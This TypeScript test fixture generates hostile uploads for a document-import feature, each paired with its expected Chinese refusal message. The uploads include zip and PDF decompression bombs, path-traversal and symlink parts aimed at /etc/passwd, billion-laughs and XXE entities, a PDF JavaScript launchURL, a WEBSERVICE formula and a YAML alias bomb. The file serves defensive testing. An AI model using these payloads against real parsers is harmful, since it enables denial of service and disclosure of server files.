import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { docxOf, docxParts, wordBody, wordParagraph, xlsxParts } from '../../support/documents/office.ts'
import { pdfFrom, stream } from '../../support/documents/pdf.ts'
import { gb18030Of } from '../../support/documents/gb18030.ts'
import { type ZipPart, zipOf } from '../../support/documents/zip.ts'

/** A file that somebody might send, and how its import ends: the words of the refusal, or READ. */
export interface HostileFile {
  what: string
  name: string
  bytes: Buffer
  ends: RegExp
}

const READ = /^read$/
const MIB = 1024 * 1024
const LINES = [
  '青办〔2026〕21号',
  '钥匙管理办法',
  '第一条 钥匙由综合科保管。',
  '第二条 本办法由综合科负责解释，自2026年6月1日起施行。',
]
const TEXT = LINES.join('\n')
const DOCX = docxOf(LINES)
const BODY = wordBody(LINES)

function part(name: string, data: string | Uint8Array = 'x', more: Partial<ZipPart> = {}): ZipPart {
  return { name, data, ...more }
}

function docxWith(more: ZipPart[]): Buffer {
  return zipOf(docxParts(BODY, more))
}

/** `url` is a place that nothing may ever call. */
export function hostileFiles(url: string): HostileFile[] {
  return [...containers(), ...xml(url), ...sheets(), ...pdfs(url), ...others()]
}

function containers(): HostileFile[] {
  const bomb = packedBomb(512, '\0')
  const inner = zipOf([part('inner.zip', DOCX)])
  const document = '<w:document/>'
  return [
    {
      what: 'a bomb of 512 MiB in half a megabyte',
      name: 'a.docx',
      bytes: rawZip('word/document.xml', bomb, 512 * MIB),
      ends: /过大/,
    },
    {
      what: 'a bomb that lies about its size',
      name: 'a.docx',
      bytes: rawZip('word/document.xml', bomb, 1000),
      ends: /损坏|缺少|没有找到/,
    },
    {
      what: 'a bomb that lies about its size behind honest parts',
      name: 'a.docx',
      bytes: zipOf([
        ...docxParts('').slice(0, 2),
        part('word/document.xml', Buffer.alloc(20 * MIB), { claimed: 2000 }),
      ]),
      ends: /损坏/,
    },
    { what: '60,000 parts', name: 'a.docx', bytes: manyParts(60_000), ends: /部件/ },
    { what: '300,000 parts that are one', name: 'a.docx', bytes: onePartOften(300_000), ends: /部件/ },
    { what: 'a million parts', name: 'a.docx', bytes: onePartOften(1_000_000), ends: /20 MB/ },
    {
      what: 'parts that share their data',
      name: 'a.docx',
      bytes: docxWith(
        [part('word/a.xml', Buffer.alloc(MIB)), part('word/a.xml', '', { sameAs: 3 })].map((one, at) => ({
          ...one,
          name: `word/${at}.xml`,
        })),
      ),
      ends: /损坏/,
    },
    {
      what: 'a name that climbs out of the folder',
      name: 'a.docx',
      bytes: docxWith([part('../../evil.txt')]),
      ends: /部件名称/,
    },
    { what: 'an absolute name', name: 'a.docx', bytes: docxWith([part('/tmp/evil.txt')]), ends: /部件名称/ },
    {
      what: 'a name with backslashes',
      name: 'a.docx',
      bytes: docxWith([part('..\\..\\evil.txt')]),
      ends: /部件名称/,
    },
    {
      what: 'a symbolic link',
      name: 'a.docx',
      bytes: docxWith([part('word/link', '/etc/passwd', { mode: 0o120777 })]),
      ends: /符号链接/,
    },
    {
      what: 'one name twice',
      name: 'a.docx',
      bytes: docxWith([part('word/document.xml', document)]),
      ends: /重名/,
    },
    {
      what: 'two names for one part',
      name: 'a.docx',
      bytes: docxWith([part('word/a.xml', document, { localName: 'word/b.xml' })]),
      ends: /损坏/,
    },
    {
      what: 'a part behind a password',
      name: 'a.docx',
      bytes: docxWith([part('word/a.xml', document, { flags: 1 })]),
      ends: /密码/,
    },
    {
      what: 'a truncated document',
      name: 'a.docx',
      bytes: DOCX.subarray(0, DOCX.length - 100),
      ends: /损坏/,
    },
    {
      what: 'an archive in an archive',
      name: 'a.zip',
      bytes: zipOf([part('outer.zip', inner)]),
      ends: /压缩包/,
    },
    { what: 'an archive called docx', name: 'a.docx', bytes: inner, ends: /没有找到/ },
    {
      what: 'a document with macros',
      name: 'a.docm',
      bytes: docxWith([part('word/vbaProject.bin')]),
      ends: /宏/,
    },
    {
      what: 'a document with macros called docx',
      name: 'a.docx',
      bytes: docxWith([part('word/vbaProject.bin')]),
      ends: /宏/,
    },
    {
      what: 'a program with a document behind it',
      name: 'a.docx',
      bytes: Buffer.concat([Buffer.from('MZ'.padEnd(64, '\0')), DOCX]),
      ends: /前面夹有/,
    },
    {
      what: 'a PDF with a document behind it',
      name: 'a.pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), DOCX]),
      ends: /既像/,
    },
  ]
}

/** A zip of one part whose data is packed already. */
function rawZip(name: string, packed: Buffer, size: number): Buffer {
  const whole = zipOf([{ name, data: '', stored: true }])
  const at = whole.indexOf(Buffer.from('PK\x01\x02'))
  const head = Buffer.from(whole.subarray(0, at))
  const rest = Buffer.from(whole.subarray(at))
  for (const [bytes, from] of [
    [head, 8],
    [rest, 10],
  ] as const) {
    bytes.writeUInt16LE(8, from)
    bytes.writeUInt32LE(packed.length, from + 10)
    bytes.writeUInt32LE(size, from + 14)
  }
  rest.writeUInt32LE(head.length + packed.length, rest.length - 6)
  return Buffer.concat([head, packed, rest])
}

/** One part that the directory names again and again. */
function onePartOften(count: number): Buffer {
  const whole = zipOf([{ name: 'word/document.xml', data: '', stored: true }])
  const at = whole.indexOf(Buffer.from('PK\x01\x02'))
  const entry = whole.subarray(at, whole.length - 22)
  const end = Buffer.from(whole.subarray(whole.length - 22))
  end.writeUInt16LE(0xffff, 8)
  end.writeUInt16LE(0xffff, 10)
  end.writeUInt32LE(entry.length * count, 12)
  return Buffer.concat([whole.subarray(0, at), Buffer.alloc(entry.length * count, entry), end])
}

/** Raw deflate of so many mebibytes of one character, made piece by piece. */
function packedBomb(mebibytes: number, char: string): Buffer {
  const one = Buffer.alloc(MIB, char)
  const piece = deflateRawSync(one, { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([...Array<Buffer>(mebibytes - 1).fill(piece), deflateRawSync(one)])
}

function manyParts(count: number): Buffer {
  return zipOf(
    Array.from({ length: count }, (_, at) => ({ name: `word/document${at}`, data: '', stored: true })),
  )
}

function xml(url: string): HostileFile[] {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  )
  const doctype = (inside: string) => `<?xml version="1.0"?><!DOCTYPE d [${inside}]>`
  const wordWith = (document: string) =>
    zipOf(docxParts('').map(one => (one.name === 'word/document.xml' ? { ...one, data: document } : one)))
  const sheetWith = (strings: string) =>
    zipOf(
      xlsxParts('', []).map(one => (one.name === 'xl/sharedStrings.xml' ? { ...one, data: strings } : one)),
    )
  const template = `<Relationships><Relationship Id="t" Type="http://x/attachedTemplate" Target="${url}/t.dotm" TargetMode="External"/></Relationships>`
  return [
    {
      what: 'billion laughs in a document',
      name: 'a.docx',
      bytes: wordWith(`${doctype(`<!ENTITY l0 "ha">${laughs}`)}<d>&l9;</d>`),
      ends: /DOCTYPE/,
    },
    {
      what: 'an external entity in a document',
      name: 'a.docx',
      bytes: wordWith(`${doctype(`<!ENTITY e SYSTEM "${url}/e">`)}<d>&e;</d>`),
      ends: /DOCTYPE/,
    },
    {
      what: 'billion laughs in a sheet',
      name: 'a.xlsx',
      bytes: sheetWith(`${doctype(`<!ENTITY l0 "ha">${laughs}`)}<sst>&l9;</sst>`),
      ends: /DOCTYPE/,
    },
    {
      what: 'an external entity in a sheet',
      name: 'a.xlsx',
      bytes: sheetWith(`${doctype('<!ENTITY e SYSTEM "file:///etc/passwd">')}<sst>&e;</sst>`),
      ends: /DOCTYPE/,
    },
    {
      what: 'XML 200,000 deep',
      name: 'a.docx',
      bytes: wordWith(`<d>${'<a>'.repeat(200_000)}${'</a>'.repeat(200_000)}</d>`),
      ends: /嵌套过深/,
    },
    {
      what: 'a template on another machine',
      name: 'a.docx',
      bytes: docxWith([part('word/_rels/document.xml.rels', template)]),
      ends: READ,
    },
    {
      what: 'a paragraph of 1.4 million characters',
      name: 'a.docx',
      bytes: zipOf(docxParts(wordParagraph('值班'.repeat(700_000)))),
      ends: /过大|换行|一百万/,
    },
  ]
}

function sheets(): HostileFile[] {
  const cell = (at: number, place: string, text: string) =>
    `<row r="${at}"><c r="${place}" t="inlineStr"><is><t>${text}</t></is></c></row>`
  const rule = LINES.map((line, at) => cell(at + 1, `A${at + 1}`, line)).join('')
  const wide = `<row r="9">${Array.from({ length: 20_000 }, () => '<c t="inlineStr"><is><t>x</t></is></c>').join('')}</row>`
  const formula =
    '<row r="3"><c r="A3" t="str"><f>WEBSERVICE("http://127.0.0.1/")</f><v>第一条 钥匙由综合科保管。</v></c></row>'
  const withFormula = [rule.split('</row>')[0], rule.split('</row>')[1], '', rule.split('</row>')[3]].map(
    row => (row === '' ? formula : `${row}</row>`),
  )
  const empty = Array.from({ length: 1_000_000 }, () => '<row/>').join('')
  return [
    {
      what: 'a cell in the far corner',
      name: 'a.xlsx',
      bytes: zipOf(xlsxParts(`${rule}${cell(1048576, 'XFD1048576', 'x')}`, [])),
      ends: READ,
    },
    {
      what: 'formulas with a stored result',
      name: 'a.xlsx',
      bytes: zipOf(xlsxParts(withFormula.join(''), [])),
      ends: READ,
    },
    { what: '20,000 columns', name: 'a.xlsx', bytes: zipOf(xlsxParts(`${rule}${wide}`, [])), ends: READ },
    {
      what: 'a million rows',
      name: 'a.xlsx',
      bytes: zipOf(
        xlsxParts(
          empty
            .replaceAll('<row/>', '<row><c><v>1</v></c></row>')
            .slice(0, 20 * MIB)
            .replace(/<row>[^/]*(?:<\/[cv]>){0,2}$/, ''),
          [],
        ),
      ),
      ends: /过大|行数/,
    },
    {
      what: 'thousands of references to one long string',
      name: 'a.xlsx',
      bytes: zipOf(
        xlsxParts(Array.from({ length: 15_000 }, () => '<row><c t="s"><v>0</v></c></row>').join(''), [
          '字'.repeat(7000),
        ]),
      ),
      ends: /过大|一百万|行数/,
    },
  ]
}

function pdfs(url: string): HostileFile[] {
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>'
  const catalogue = '<< /Type /Catalog /Pages 2 0 R >>'
  const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
  const flate = (raw: Buffer, times: number) => {
    let packed = Buffer.concat([Buffer.from([0x78, 0x9c]), raw, Buffer.alloc(4)])
    for (let at = 1; at < times; at++) packed = deflateSync(packed)
    return stream(packed, `/Filter [${'/FlateDecode '.repeat(times)}]`)
  }
  const shown = 'BT /F1 12 Tf 90 700 Td (1) Tj ET'
  const noText = /没有文字|损坏|太久|太多/
  return [
    {
      what: 'a PDF whose pages contain themselves',
      name: 'a.pdf',
      bytes: pdfFrom([catalogue, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
      ends: noText,
    },
    {
      what: 'a PDF that says it has a billion pages',
      name: 'a.pdf',
      bytes: pdfFrom([catalogue, '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>', page, stream(shown)]),
      ends: /页数太多|损坏|没有文字/,
    },
    {
      what: 'a PDF with a script',
      name: 'a.pdf',
      bytes: pdfFrom([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}"\\)) >> >>`,
        pages,
        page,
        stream(shown),
      ]),
      ends: noText,
    },
    {
      what: 'a PDF of half a gigabyte packed twice',
      name: 'a.pdf',
      bytes: pdfFrom([catalogue, pages, page, flate(packedBomb(512, ' '), 2)]),
      ends: noText,
    },
    {
      what: 'a PDF with arrays 100,000 deep',
      name: 'a.pdf',
      bytes: pdfFrom([
        catalogue,
        pages,
        `${page.slice(0, -2)} /Resources ${'['.repeat(100_000)}${']'.repeat(100_000)} >>`,
        stream(shown),
      ]),
      ends: noText,
    },
    {
      what: 'a PDF whose objects are in a bomb',
      name: 'a.pdf',
      bytes: pdfFrom(
        [
          catalogue,
          '<< /Type /Pages /Kids [9 0 R] /Count 1 >>',
          flate(packedBomb(300, '9 0 '), 1)
            .toString('latin1')
            .replace('/Filter', '/Type /ObjStm /N 1000000 /First 100 /Filter'),
        ].map(one => Buffer.from(one, 'latin1')),
      ),
      ends: noText,
    },
    {
      what: 'a form that draws itself',
      name: 'a.pdf',
      bytes: pdfFrom([
        catalogue,
        pages,
        `${page.slice(0, -2)} /Resources << /XObject << /X 5 0 R >> >> >>`,
        stream('/X Do'),
        stream(
          '/X Do /X Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
        ),
      ]),
      ends: noText,
    },
    {
      what: 'a scan',
      name: 'a.pdf',
      bytes: pdfFrom([catalogue, pages, page, stream('0 0 m 100 100 l S')]),
      ends: /扫描件/,
    },
    {
      what: 'a PDF that ends in the middle',
      name: 'a.pdf',
      bytes: pdfFrom([catalogue, pages, page, stream(shown)]).subarray(0, 200),
      ends: noText,
    },
  ]
}

function others(): HostileFile[] {
  const compound = (streamName: string) =>
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(1500),
      Buffer.from(streamName, 'utf16le'),
      Buffer.alloc(600),
    ])
  const aliases = Array.from(
    { length: 9 },
    (_, at) => `a${at + 1}: &a${at + 1} [${Array(9).fill(`*a${at}`).join(', ')}]`,
  )
  return [
    {
      what: 'an old Word document',
      name: 'a.doc',
      bytes: compound('WordDocument'),
      ends: /请在WPS中另存为docx再导入/,
    },
    {
      what: 'a document of WPS',
      name: 'a.wps',
      bytes: compound('WordDocument'),
      ends: /请在WPS中另存为docx再导入/,
    },
    {
      what: 'an old document called docx',
      name: 'a.docx',
      bytes: compound('WordDocument'),
      ends: /请在WPS中另存为docx再导入/,
    },
    {
      what: 'a document behind a password',
      name: 'a.docx',
      bytes: compound('EncryptedPackage'),
      ends: /密码/,
    },
    { what: 'a PDF called docx', name: 'a.docx', bytes: Buffer.from('%PDF-1.7\n'), ends: /内容却是PDF/ },
    { what: 'a document called txt', name: 'a.txt', bytes: DOCX, ends: /内容却是Word/ },
    { what: 'a picture', name: 'a.png', bytes: Buffer.from('89504e470d0a1a0a', 'hex'), ends: /图片/ },
    { what: 'an empty file', name: 'a.txt', bytes: Buffer.alloc(0), ends: /空的/ },
    { what: 'a file of 30 MB', name: 'a.txt', bytes: Buffer.alloc(30 * MIB, 'a'), ends: /20 MB/ },
    { what: 'text in GBK', name: 'a.txt', bytes: gb18030Of(TEXT), ends: READ },
    {
      what: 'broken GB18030',
      name: 'a.txt',
      bytes: Buffer.concat([gb18030Of(TEXT), Buffer.from([0xff, 0xff, 0x81])]),
      ends: /编码|损坏/,
    },
    {
      what: 'broken UTF-8',
      name: 'a.txt',
      bytes: Buffer.concat([Buffer.from(TEXT.repeat(3)), Buffer.from([0xe5, 0x9d])]),
      ends: /第\d+行有损坏/,
    },
    { what: 'text with NUL', name: 'a.txt', bytes: Buffer.from(`${TEXT}\0`), ends: /不是文本/ },
    {
      what: 'a line of a million characters',
      name: 'a.txt',
      bytes: Buffer.from(`第一条 ${'字'.repeat(900_000)}`),
      ends: /换行/,
    },
    {
      what: 'five million characters',
      name: 'a.txt',
      bytes: Buffer.from(`第一条 ${'字'.repeat(4000)}\n`.repeat(1300)),
      ends: /一百万/,
    },
    {
      what: '25,000 articles',
      name: 'a.txt',
      bytes: Buffer.from('第一条 值班。\n'.repeat(25_000)),
      ends: /25000条|行/,
    },
    {
      what: 'a hundred thousand lines',
      name: 'a.txt',
      bytes: Buffer.from('第一条 值班。\n'.repeat(100_000)),
      ends: /30000行/,
    },
    {
      what: 'a head of aliases that multiply',
      name: 'a.md',
      bytes: Buffer.from(`---\na0: &a0 x\n${aliases.join('\n')}\n---\n${TEXT}`),
      ends: /没有导入|缺少|不认识/,
    },
  ]
}
